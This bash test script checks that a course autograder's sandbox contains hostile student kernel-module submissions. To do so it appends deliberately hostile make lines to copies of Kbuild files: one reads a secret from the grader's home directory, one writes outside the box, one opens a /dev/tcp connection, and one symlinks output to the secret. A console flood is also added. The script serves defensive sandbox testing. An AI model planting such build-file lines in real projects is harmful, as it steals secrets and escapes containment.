#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0
# Proof that `make grade-all` keeps untrusted submissions in their box (part of make check): a
# class built by this test, each submission the reference plus one hostile act:
#   write_outside  its Kbuild creates a file outside its directory (/var/tmp, the home directory)
#   read_home      its Kbuild reads a secret from the grader's home into the build's output
#   network        its Kbuild connects to a listener on the host's loopback
#   symlink_out    its Kbuild leaves rust_workq.ko in the output as a symlink to the secret
#   flood          its KICK floods the kernel console (with a small output cap for the test)
# Each must be contained (no file created, no secret in any output, no connection, the console
# log capped), score what it earned, and the class run must complete. Graded on exercise 1 only,
# with an instructor's hidden check (EXTRA_TESTS) that counts and is marked hidden in the JSON.
# Usage: grade-class.sh
set -uo pipefail
. "$(dirname "$0")/../../qemu/lib.sh"
. "$ROOT/tests/ktap.sh"

work=$(mktemp -d)
secret=$HOME/.rwq-grader-secret
token=rwq-secret-$RANDOM$RANDOM
marker=rwq-hostile-$RANDOM$RANDOM
listener=
cleanup() {
	[ -z "$listener" ] || kill "$listener" 2>/dev/null
	rm -rf "$work" "$secret" "/var/tmp/$marker" "${HOME:?}/$marker"
}
trap cleanup EXIT
echo "$token" >"$secret"

# A listener on the host's loopback that records every connection it gets.
port=$((20000 + RANDOM % 20000))
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(5)
while True:
    c, _ = s.accept(); open(sys.argv[2], "a").write("connection\n"); c.close()
' "$port" "$work/connections" &
listener=$!

class=$work/class
# The hostile lines below are make syntax for the submission's own Kbuild: not expanded here.
submission() { # submission NAME: a copy of the reference
	mkdir -p "$class/$1"
	cp "$ROOT"/Kbuild "$ROOT"/*.rs "$class/$1/"
}
submission write_outside
# shellcheck disable=SC2016
printf '$(shell touch /var/tmp/%s $(HOME)/%s)\n' "$marker" "$marker" >>"$class/write_outside/Kbuild"
submission read_home
# shellcheck disable=SC2016
printf '$(warning stolen: $(shell cat $(HOME)/.rwq-grader-secret))\n' >>"$class/read_home/Kbuild"
submission network
# shellcheck disable=SC2016
printf '$(shell bash -c "echo hello >/dev/tcp/127.0.0.1/%s")\n' "$port" >>"$class/network/Kbuild"
submission symlink_out
# shellcheck disable=SC2016
printf '$(shell ln -sf %s /tmp/out/rust_workq.ko; ln -sf %s /tmp/out/more)\n' "$secret" "$secret" >>"$class/symlink_out/Kbuild"
submission flood
python3 - "$class/flood/rust_workq.rs" <<'PY'
import sys
p = sys.argv[1]; s = open(p).read()
old = "        me.stats.stamp(Item::Kick);\n"
assert old in s
s = s.replace(old, old + '        for i in 0..20000 {\n            pr_err!("flood {i}: this line is here to fill the console\\n");\n        }\n', 1)
open(p, "w").write(s)
PY

# An instructor's hidden check, in the checks' own format.
mkdir -p "$work/hidden"
cat >"$work/hidden/15-hidden_value_twice.sh" <<'CHECK'
# shellcheck shell=sh
# Hidden: KICK_WITH_VALUE twice with one value: two "worker received" lines.
#@ exercise=1
#@ points=5
#@ limit=10
. /tests/grade-lib.sh
v=$(random_value)
call KICK_WITH_VALUE -v "$v"
await_worker "worker received: $v" >/dev/null
call KICK_WITH_VALUE -v "$v"
two() { [ "$(worker_count "worker received: $v")" = 2 ]; }
wait_until 5 two || fail "expected two lines with \"worker received: $v\""
CHECK
cap=262144
SUBMISSIONS=$class EXERCISE=1 EXTRA_TESTS=$work/hidden GRADE_OUT=$work/out RWQ_OUTPUT_CAP=$cap bash "$ROOT/grade/grade-all.sh" >"$work/run.out" 2>"$work/run.err"
rc=$?
sed 's/^/    /' "$work/run.out"
ktap_header
ktap_plan 8
out=$work/out/class
if [ "$rc" = 0 ] && [ "$(grep -c '^\[[0-9]/5\] ' "$work/run.out")" = 5 ] && [ -f "$work/out/class.csv" ]; then
	ktap_result pass "class: the run completes: 5 progress lines and class.csv"
else
	ktap_diag "exit $rc; $(tail -n 3 "$work/run.err" | tr '\n' '|')"
	ktap_result fail "class: the run completes: 5 progress lines and class.csv"
fi
if [ ! -e "/var/tmp/$marker" ] && [ ! -e "$HOME/$marker" ] && grep -q 'Read-only file system' "$out/write_outside/report.txt"; then
	ktap_result pass "class: write_outside: no file created outside; the report says what was refused"
else
	ktap_result fail "class: write_outside: no file created outside; the report says what was refused"
fi
# grep -R follows symlinks: a link to the secret left in any output would be found.
if ! grep -Rqs "$token" "$work/out" && grep -q 'sandbox: .*rwq-grader-secret' "$out/read_home/report.txt"; then
	ktap_result pass "class: read_home: the secret is in no output; the report says what was refused"
else
	ktap_result fail "class: read_home: the secret is in no output; the report says what was refused"
fi
if [ -z "$(find "$work/out" -type l)" ] && [ "$(sed -n 's/^Score: //p' "$out/symlink_out/report.txt")" = 0/15 ]; then
	ktap_result pass "class: symlink_out: no symlink reaches the host's outputs; its module counts as not built"
else
	ktap_diag "symlinks: $(find "$work/out" -type l | head -n 3 | tr '\n' ' ')"
	ktap_result fail "class: symlink_out: no symlink reaches the host's outputs; its module counts as not built"
fi
if [ ! -s "$work/connections" ] 2>/dev/null && grep -qE 'sandbox: .*(unreachable|refused)' "$out/network/report.txt"; then
	ktap_result pass "class: network: no connection reached the host; the report says what was refused"
else
	ktap_diag "connections: $(wc -l <"$work/connections" 2>/dev/null)"
	ktap_result fail "class: network: no connection reached the host; the report says what was refused"
fi
# The console keeps the first $cap bytes ('\r's removed afterwards): more than 90% of the cap
# means the flood reached it.
console=$(find "$out/flood/log" -name console.log -printf '%s %p\n' | sort -n | tail -n 1)
if [ -n "$console" ] && [ "${console%% *}" -le "$cap" ] && [ "${console%% *}" -gt $((cap * 9 / 10)) ] &&
	grep -q 'flood 1:' "${console#* }"; then
	ktap_result pass "class: flood: the console log is capped at $cap bytes (${console%% *} kept)"
else
	ktap_diag "largest console log: ${console:-none}"
	ktap_result fail "class: flood: the console log is capped at $cap bytes"
fi
# What each earned: the three hostile builds are the reference with one act the box contains,
# so exercise 1 in full, the hidden check included. The flood gets a score too: what it earned
# depends on which of its own lines the kernel log kept.
score() { sed -n 's/^Score: //p' "$out/$1/report.txt" 2>/dev/null; }
full=1
for s in write_outside read_home network; do
	[ "$(score $s)" = 15/15 ] || { full=0; ktap_diag "$s scored '$(score $s)'"; }
done
[ -n "$(score flood)" ] || { full=0; ktap_diag "flood has no score"; }
if [ "$full" = 1 ]; then
	ktap_result pass "class: the contained builds score 15/15 on exercise 1; the flood is graded ($(score flood))"
else
	ktap_result fail "class: the contained builds score 15/15 on exercise 1; the flood is graded"
fi
hidden=$(python3 - "$out/network/results.json" 2>/dev/null <<'PY'
import json, sys
for t in json.load(open(sys.argv[1]))["tests"]:
    if "hidden_value_twice" in t["name"]:
        print(f"{t['visibility']}:{t['score']}/{t['max_score']}")
PY
)
if [ "$hidden" = hidden:5/5 ]; then
	ktap_result pass "class: the instructor's hidden check counts and is marked hidden in results.json"
else
	ktap_result fail "class: the instructor's hidden check counts and is marked hidden in results.json ($hidden)"
fi
ktap_totals
[ "$KTAP_FAIL" = 0 ]
